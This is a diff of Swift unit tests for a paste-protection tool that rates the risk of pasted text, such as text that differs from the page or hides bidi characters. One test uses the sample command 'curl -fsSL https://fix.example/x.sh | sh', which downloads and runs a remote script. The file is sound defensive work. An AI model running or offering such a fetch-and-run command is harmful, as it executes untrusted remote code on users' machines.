@@ -102,36 +102,33 @@ struct PasteProtectionTests {
   // MARK: The judgement
 
   @Test func `characters that were removed and a page that showed another text make a judgement worse`() throws {
-    var report = copy(Offer(forms: [])).report
     let offer = Offer(forms: [text("curl -fsSL https://fix.example/x.sh | sh\n")])
-    #expect(PasteReview(offer, report: report)?.assessment.unlimitedSeverity == .notice)
-    report.chosen = .init(target: "text/html", format: "html", type: "text/html", bytes: 1, incremental: false)
-    report.text = .init(target: "UTF8_STRING", bytes: 1, origin: .other)
-    #expect(PasteReview(offer, report: report)?.assessment.unlimitedSeverity == .hold)
-    report.text = nil
-    report.sanitizing = [.init(code: Finding.Code.bidiControlRemoved.rawValue, from: nil, to: nil, count: 1)]
-    #expect(PasteReview(offer, report: report)?.assessment.unlimitedSeverity == .hold)
+    func severity(_ evidence: CopyEvidence) -> Severity? {
+      PasteReview(offer, evidence)?.assessment.unlimitedSeverity
+    }
+    #expect(severity(CopyEvidence()) == .notice)
+    #expect(severity(CopyEvidence(differsFromPage: true)) == .hold)
+    var findings = Findings()
+    findings.record(.bidiControlRemoved)
+    #expect(severity(CopyEvidence(removed: RemovedCharacters(findings))) == .hold)
   }
 
   @Test func `the address of a copied link is no text that differs from the page`() throws {
-    var report = copy(Offer(forms: [])).report
-    report.chosen = .init(target: "text/html", format: "html", type: "text/html", bytes: 1, incremental: false)
-    report.text = .init(target: "UTF8_STRING", bytes: 1, origin: .other)
+    let evidence = CopyEvidence(differsFromPage: true)
     let link = Offer(forms: [text("https://example.org/repository.git")])
-    #expect(PasteReview(link, report: report)?.assessment.unlimitedSeverity == Severity.none)
+    #expect(PasteReview(link, evidence)?.assessment.unlimitedSeverity == Severity.none)
     let sentence = Offer(forms: [text("some other words")])
-    #expect(PasteReview(sentence, report: report)?.assessment.unlimitedSeverity == .notice)
+    #expect(PasteReview(sentence, evidence)?.assessment.unlimitedSeverity == .notice)
   }
 
   @Test func `a long text is judged by its ends until the worker has judged all of it`() throws {
     let filling = String(repeating: "plain words in a line\n", count: 2000)
-    let report = copy(Offer(forms: [])).report
     let hidden = try #require(
-      PasteReview(Offer(forms: [text(filling + Self.command + filling)]), report: report))
+      PasteReview(Offer(forms: [text(filling + Self.command + filling)]), CopyEvidence()))
     #expect(hidden.isLong && hidden.assessment.unlimitedSeverity == .none)
     #expect(hidden.assessWhole().unlimitedSeverity == .hold)
     #expect(hidden.assessment.unlimitedSeverity == .hold)
-    let atEnd = try #require(PasteReview(Offer(forms: [text(filling + filling + Self.command)]), report: report))
+    let atEnd = try #require(PasteReview(Offer(forms: [text(filling + filling + Self.command)]), CopyEvidence()))
     #expect(atEnd.assessment.unlimitedSeverity == .hold)
   }
 
